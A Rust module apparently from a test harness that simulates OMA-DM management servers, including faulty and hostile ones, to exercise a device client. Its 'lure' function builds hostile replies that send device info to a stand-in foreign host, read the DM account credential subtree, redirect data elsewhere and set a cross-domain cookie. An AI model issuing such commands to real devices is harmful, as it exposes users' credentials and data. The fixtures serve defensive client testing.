//! The servers' side: what each answers, with the real packages of a session.

use super::plan::Ill;
use super::truth::{FOREIGN_HOST, Server};
use crate::random::Random;
use omadm_core::package::{Command, Package1, Package3};
use omadm_core::session::server::{Job, ServerSession};
use omadm_core::web::media;

/// A request as it reaches a server.
pub struct Arrival<'a> {
    /// GET, PUT or POST.
    pub method: &'a str,
    /// Path and query.
    pub path: &'a str,
    /// The Content-Type.
    pub content_type: &'a str,
    /// The Authorization header.
    pub authorization: &'a str,
    /// The Cookie header.
    pub cookie: &'a str,
    /// The body.
    pub body: &'a [u8],
}

/// What a server answers.
#[derive(Debug, Clone, Default)]
pub struct Reply {
    /// The status.
    pub status: u16,
    /// Its headers.
    pub headers: Vec<(&'static str, String)>,
    /// The body.
    pub body: Vec<u8>,
    /// Whether it ended a session as it should.
    pub ended: bool,
}

impl Reply {
    /// An answer without a body.
    pub fn status(status: u16) -> Self {
        Self { status, ..Self::default() }
    }

    /// An answer of this type.
    pub fn of(content_type: &str, body: Vec<u8>) -> Self {
        Self { status: 200, headers: vec![("content-type", content_type.to_owned())], body, ended: false }
    }
}

/// What an ill server answers to anything; none where it answers as a healthy one would.
pub fn ill_reply(ill: Ill) -> Option<Reply> {
    match ill {
        Ill::Status(status, wait) => {
            let headers = wait.map(|wait| ("retry-after", wait.to_string())).into_iter().collect();
            Some(Reply { status, headers, ..Reply::default() })
        }
        Ill::Garbage => Some(Reply::of("text/html", b"<html>It works!</html>".to_vec())),
        Ill::Redirects => {
            let headers = vec![("location", format!("https://{FOREIGN_HOST}/dm"))];
            Some(Reply { status: 307, headers, ..Reply::default() })
        }
        Ill::Down
        | Ill::Silent
        | Ill::NoName
        | Ill::Huge
        | Ill::ForeignCertificate
        | Ill::Expired
        | Ill::NotYetValid
        | Ill::Hostile
        | Ill::Odd => None,
    }
}

/// The session that a DM Server holds with the device.
#[derive(Debug, Default)]
pub struct Desk {
    session: ServerSession,
    cookie: String,
    number: u64,
}

impl Desk {
    /// Answers a package or a request for data.
    pub fn answer(&mut self, server: &Server, arrival: &Arrival<'_>, ill: Option<Ill>, random: &mut Random) -> Reply {
        if arrival.authorization != server.authorization() {
            return Reply::status(401);
        }
        let odd = match ill {
            Some(Ill::Odd) => true,
            Some(Ill::Hostile) => return self.lure(server, arrival, random),
            _ => false,
        };
        let path = arrival.path.split('?').next().unwrap_or_default();
        match (arrival.method, path) {
            ("POST", "/dm") => {}
            ("GET", "/data/example") => {
                let name = format!("name {}", random.below(3));
                let item = format!(
                    r#"[{{"ClientURI":"urn:omadm:mo:example:1.0/x/","MOData":{{"Example":{{"Name":"{name}"}}}}}}]"#
                );
                return Reply::of(media::MO, item.into_bytes());
            }
            ("PUT", "/data/devinfo") => return Reply::status(204),
            _ => return Reply::status(404),
        }
        if odd {
            return Reply::of(media::REQUEST, br#"{"CMD":[["GET","urn:oma:mo:oma-dm-devinfo:1.2//DevID"]]}"#.to_vec());
        }
        let turn = if arrival.content_type == media::INITIATION {
            let Ok(package) = Package1::parse(arrival.body) else { return Reply::status(400) };
            self.number += 1;
            self.cookie = format!("sid={}-{}", server.host, self.number);
            self.session.begin(&package, jobs(server, random))
        } else {
            if arrival.cookie != self.cookie {
                return Reply::status(403);
            }
            let Ok(package) = Package3::parse(arrival.body) else { return Reply::status(400) };
            match self.session.proceed(&package, Vec::new()) {
                Ok(turn) => turn,
                Err(_) => return Reply::status(400),
            }
        };
        let mut reply = Reply::of(media::REQUEST, turn.reply.to_bytes());
        reply.headers.push(("set-cookie", format!("{}; Path=/; Secure; HttpOnly", self.cookie)));
        reply.ended = turn.ended;
        reply
    }

    /// Tries to get credentials and data to somebody else.
    fn lure(&mut self, server: &Server, arrival: &Arrival<'_>, random: &mut Random) -> Reply {
        if arrival.path == "/data/away" {
            let headers = vec![("location", format!("https://{FOREIGN_HOST}/data"))];
            return Reply { status: 302, headers, ..Reply::default() };
        }
        let host = &server.host;
        let commands = [
            format!(r#"["CONT","https://{FOREIGN_HOST}/dm"]"#),
            r#"["CONT","https://boot.example/dm"]"#.to_owned(),
            format!(r#"["HGET","https://{FOREIGN_HOST}/data","urn:omadm:mo:example:1.0/x/"]"#),
            format!(r#"["HGET","https://{host}/data/away","urn:omadm:mo:example:1.0/x/"]"#),
            format!(r#"["HPUT","https://{FOREIGN_HOST}/data","urn:oma:mo:oma-dm-devinfo:1.2//"]"#),
            r#"["GET","urn:oma:mo:oma-dm-dmacc:1.2/*/"]"#.to_owned(),
            r#"["HPUT","https://127.0.0.1/data","urn:oma:mo:oma-dm-devinfo:1.2//"]"#.to_owned(),
        ];
        let mut chosen: Vec<_> = commands.into_iter().filter(|_| random.chance(60)).collect();
        if random.chance(50) {
            chosen.push(r#"["END"]"#.to_owned());
        }
        let mut reply = Reply::of(media::REQUEST, format!(r#"{{"CMD":[{}]}}"#, chosen.join(",")).into_bytes());
        reply.headers.push(("set-cookie", format!("sid={host}-hostile; Path=/; Domain={FOREIGN_HOST}")));
        reply
    }
}

/// What is queued for the device: mostly nothing.
fn jobs(server: &Server, random: &mut Random) -> Vec<Job> {
    let example = || vec!["urn:omadm:mo:example:1.0/x/".to_owned()];
    let host = &server.host;
    let commands = match random.below(20) {
        0 => vec![Command::Get { client_uri: "urn:oma:mo:oma-dm-devinfo:1.2//DevID".to_owned() }],
        1 => vec![Command::Hget { server_uri: format!("https://{host}/data/example"), client_uris: example() }],
        2 => vec![Command::Delete { client_uri: "urn:omadm:mo:example:1.0/x/".to_owned() }],
        3 => vec![
            Command::Hput {
                server_uri: format!("https://{host}/data/devinfo"),
                client_uris: vec!["urn:oma:mo:oma-dm-devinfo:1.2//".to_owned()],
            },
            Command::Cont { server_uri: format!("https://{host}/dm?token={}", random.below(1 << 40)) },
        ],
        _ => return Vec::new(),
    };
    vec![Job { id: "job".to_owned(), commands }]
}
